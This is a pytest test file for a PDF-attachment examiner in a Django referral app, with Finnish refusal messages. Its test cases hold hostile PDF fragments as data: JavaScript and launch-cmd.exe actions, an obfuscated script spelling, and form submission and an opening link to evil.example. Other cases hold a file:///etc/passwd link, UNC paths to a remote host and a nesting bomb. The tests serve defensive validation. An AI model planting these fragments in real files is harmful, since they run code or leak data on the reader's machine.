"""What an attached PDF may do: be read. Each thing beyond it is refused with its reason."""

import html

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from inputs.attached.content import Fault, UnfitFile
from inputs.attached.examining import examine
from tests.factories import ReferralFactory
from tests.referrals.files import (
    acting_pdf,
    carrying_pdf,
    linking_pdf,
    pdf,
    rewritten,
)

PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
LOCKED = {"encryption": pikepdf.Encryption(owner="o", user="u")}
AGAINST_CHANGES = {"encryption": pikepdf.Encryption(owner="o", user="")}
FORM = b"/AcroForm << /Fields [] /XFA (x) >>"

REFUSED = {
    "script on opening": (acting_pdf(), Fault.ACTIVE),
    "script by another spelling": (acting_pdf(b"/J#61vaScript"), Fault.ACTIVE),
    "script in a packed part": (rewritten(acting_pdf(), **PACKED), Fault.ACTIVE),
    "script behind a link": (linking_pdf(b"/S /JavaScript /JS (x)"), Fault.ACTIVE),
    "script as an address": (linking_pdf(b"/S /URI /URI (java\nscript:x)"), Fault.ACTIVE),
    "script among names": (
        pdf(catalog=b"/Names << /JavaScript << /Names [(a) << /S /JavaScript >>] >> >>"),
        Fault.ACTIVE,
    ),
    "program that is started": (linking_pdf(b"/S /Launch /F (cmd.exe)"), Fault.ACTIVE),
    "film": (pdf(page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"), Fault.ACTIVE),
    "address on opening": (
        pdf(catalog=b"/OpenAction << /S /URI /URI (http://evil.example) >>"),
        Fault.OPENING,
    ),
    "printing on opening": (pdf(catalog=b"/OpenAction << /S /Named /N /Print >>"), Fault.OPENING),
    "act on turning the page": (pdf(page=b"/AA << /O << /S /Named >> >>"), Fault.OPENING),
    "form that sends": (linking_pdf(b"/S /SubmitForm /F (http://evil.example)"), Fault.SENDING),
    "form that sends, as a second act": (
        linking_pdf(b"/S /GoTo /D [0] /Next [<< /S /SubmitForm >>]"),
        Fault.SENDING,
    ),
    "XFA": (pdf(catalog=FORM), Fault.XFA),
    "jump to a file on another machine": (
        linking_pdf(rb"/S /GoToR /F (\\\\evil\\x.pdf) /D [0]"),
        Fault.ELSEWHERE,
    ),
    "link to a file": (linking_pdf(b"/S /URI /URI (file:///etc/passwd)"), Fault.ELSEWHERE),
    "link to another machine": (linking_pdf(rb"/S /URI /URI (\\\\evil\\x)"), Fault.ELSEWHERE),
    "file inside": (carrying_pdf(), Fault.FILES),
    "file inside, packed": (rewritten(carrying_pdf(), **PACKED), Fault.FILES),
    "file pinned to a page": (
        pdf(page=b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]"),
        Fault.FILES,
    ),
    "password": (rewritten(pdf(), **LOCKED), Fault.LOCKED),
    "lock against changes": (rewritten(pdf(), **AGAINST_CHANGES), Fault.LOCKED),
    "wrong table of its parts": (
        pdf().replace(b"startxref\n", b"startxref\n9"),
        Fault.DAMAGED,
    ),
    "parts within parts without end": (
        pdf(catalog=b"/X " + b"[" * 100_000 + b"]" * 100_000),
        Fault.DAMAGED,
    ),
}


@pytest.mark.parametrize("what", REFUSED)
def test_pdf_that_does_more_than_be_read_is_refused_for_its_reason(what):
    content, fault = REFUSED[what]

    with pytest.raises(UnfitFile) as refused:
        examine(content)

    assert refused.value.fault is fault


TAKEN = {
    "plain": pdf(),
    "packed": rewritten(pdf(), **PACKED),
    "opens at a place": pdf(catalog=b"/OpenAction [3 0 R /Fit]"),
    "opens at a place, as an act": pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "link to the web": linking_pdf(b"/S /URI /URI (https://www.kela.fi/)"),
    "link without https": linking_pdf(b"/S /URI /URI (www.kela.fi/asumistuki)"),
    "link to an address of mail": linking_pdf(b"/S /URI /URI (mailto:a@example.invalid)"),
    "form to fill in": pdf(catalog=b"/AcroForm << /Fields [] /NeedAppearances true >>"),
    "words of a script in its text": pdf(b"/JavaScript /Launch"),
    "structure of a text": pdf(catalog=b"/StructTreeRoot << /K << /S /P /Type /StructElem >> >>"),
}


@pytest.mark.parametrize("what", TAKEN)
def test_pdf_that_is_only_read_is_taken_as_it_is(what):
    assert examine(TAKEN[what]).kept_of(TAKEN[what]) == TAKEN[what]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "said"),
    [
        (acting_pdf(), "”a.pdf” sisältää ohjelman."),
        (carrying_pdf(), "”a.pdf” sisältää toisen tiedoston."),
        (rewritten(pdf(), **LOCKED), "”a.pdf” on suojattu salasanalla tai muutoksilta."),
        (pdf(catalog=FORM), "”a.pdf” on lomake, jonka vain harva ohjelma osaa näyttää (XFA)."),
        (linking_pdf(b"/S /SubmitForm"), "”a.pdf” on lomake, joka lähettää"),
        (linking_pdf(b"/S /GoToR"), "”a.pdf” avaa muita tiedostoja."),
        (pdf(page=b"/AA << >>"), "”a.pdf” tekee jotain itsestään"),
    ],
)
def test_refusal_says_its_reason_and_the_way_out_on_the_page(client, content, said):
    referral = ReferralFactory()
    client.force_login(referral.holder)

    response = client.post(
        reverse("referrals:information_add", args=[referral.pk]),
        {"text": "Liitteenä.", "attachments": SimpleUploadedFile("a.pdf", content)},
    )

    shown = html.unescape(response.content.decode())
    assert said in shown
    assert "uudeksi PDF-tiedostoksi" in shown


def test_reader_of_pdfs_sees_no_secret_of_the_installation(monkeypatch, tmp_path):
    """It is started with an empty environment: whatever broke it would find nothing there."""
    spy = tmp_path / "reader.py"
    spy.write_text(
        "import os, sys\nsys.stdout.write('locked' if 'SECRET_KEY' in os.environ else 'fit')\n"
    )
    monkeypatch.setattr("inputs.attached.pdf.READER", spy)

    examine(pdf())
